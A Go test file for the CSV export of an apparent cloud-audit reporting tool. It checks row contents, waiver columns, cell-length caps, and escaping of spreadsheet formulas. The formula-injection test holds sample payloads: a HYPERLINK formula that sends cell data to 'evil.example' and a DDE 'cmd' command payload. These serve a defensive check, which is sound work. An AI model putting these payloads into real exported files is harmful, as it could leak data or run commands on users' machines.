package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/amiaudit/amiaudit/finding"
)

func csvRecords(t *testing.T, r *finding.Report) [][]string {
	t.Helper()
	out := render(t, FormatCSV, Options{}, r)
	if !bytes.HasSuffix(out, []byte("\r\n")) || bytes.Count(out, []byte("\n")) != bytes.Count(out, []byte("\r\n")) {
		t.Error("lines do not end in CRLF (RFC 4180)")
	}
	cr := csv.NewReader(bytes.NewReader(out))
	cr.FieldsPerRecord = len(CSVColumns)
	records, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, out)
	}
	return records
}

func TestCSVRows(t *testing.T) {
	r := testReport()
	records := csvRecords(t, r)
	if !slices.Equal(records[0], CSVColumns) {
		t.Fatalf("header %q", records[0])
	}
	if len(records) != len(r.Findings)+1 {
		t.Fatalf("%d rows for %d findings", len(records)-1, len(r.Findings))
	}
	col := map[string]int{}
	for i, c := range CSVColumns {
		col[c] = i
	}
	for i, row := range records[1:] {
		f := r.Findings[i] // same order as the report
		for name, want := range map[string]string{
			"rule_id": f.RuleID, "severity": string(f.Severity), "resource_arn": f.Resource.ARN,
			"account": f.Resource.Account, "region": f.Resource.Region, "message": f.Message,
			"remediation": f.Remediation, "finding_id": findingID(&f),
		} {
			if row[col[name]] != want {
				t.Errorf("row %d %s = %q, want %q", i+1, name, row[col[name]], want)
			}
		}
		var ev map[string]any
		if err := json.Unmarshal([]byte(row[col["evidence"]]), &ev); err != nil {
			t.Errorf("row %d evidence is not JSON: %v", i+1, err)
		}
		if f.Waiver != nil && (row[col["waiver_status"]] != f.Waiver.Status || row[col["waiver_reason"]] != f.Waiver.Reason || row[col["waiver_expires"]] != f.Waiver.Expires) {
			t.Errorf("row %d waiver columns %q", i+1, row[col["waiver_status"]:col["waiver_expires"]+1])
		}
		if f.Waiver == nil && row[col["waiver_status"]] != "" {
			t.Errorf("row %d has a waiver status without a waiver", i+1)
		}
	}
	empty := csvRecords(t, emptyReport())
	if len(empty) != 1 {
		t.Errorf("no findings gives %d records, want the header alone", len(empty))
	}
}

// A cell a spreadsheet would run as a formula starts with an apostrophe;
// quotes, commas and newlines survive the round trip.
func TestCSVFormulaInjection(t *testing.T) {
	r := testReport()
	r.Findings = r.Findings[:1]
	f := &r.Findings[0]
	f.Message = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	f.Title = "+cmd|' /C calc'!A0"
	f.Remediation = "-2+3"
	f.Resource.ID = "@SUM(1,1)"
	f.Resource.Region = "\tus-east-1"
	f.Resource.Type = "a \"quoted\", multi\nline value"
	row := csvRecords(t, r)[1]
	for _, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q would be evaluated as a formula", cell)
		}
	}
	for _, want := range []string{"'" + f.Message, "'" + f.Title, "'" + f.Remediation, "'" + f.Resource.ID, "'" + f.Resource.Region, f.Resource.Type} {
		if !slices.Contains(row, want) {
			t.Errorf("row lacks %q: %q", want, row)
		}
	}
}

func TestCSVCapsCellsAtSpreadsheetLimit(t *testing.T) {
	r := testReport()
	r.Findings = r.Findings[:1]
	r.Findings[0].Evidence = map[string]any{"key_policy": strings.Repeat("x", 100_000)}
	r.Findings[0].Message = strings.Repeat("m", csvMaxCell)
	row := csvRecords(t, r)[1]
	ev := row[len(row)-1]
	if n := utf8.RuneCountInString(ev); n != csvMaxCell || !strings.Contains(ev, "[cut: 100") {
		t.Errorf("evidence cell of %d characters ends %q", n, ev[len(ev)-60:])
	}
	if row[8] != r.Findings[0].Message {
		t.Error("a cell at the limit was cut")
	}
}
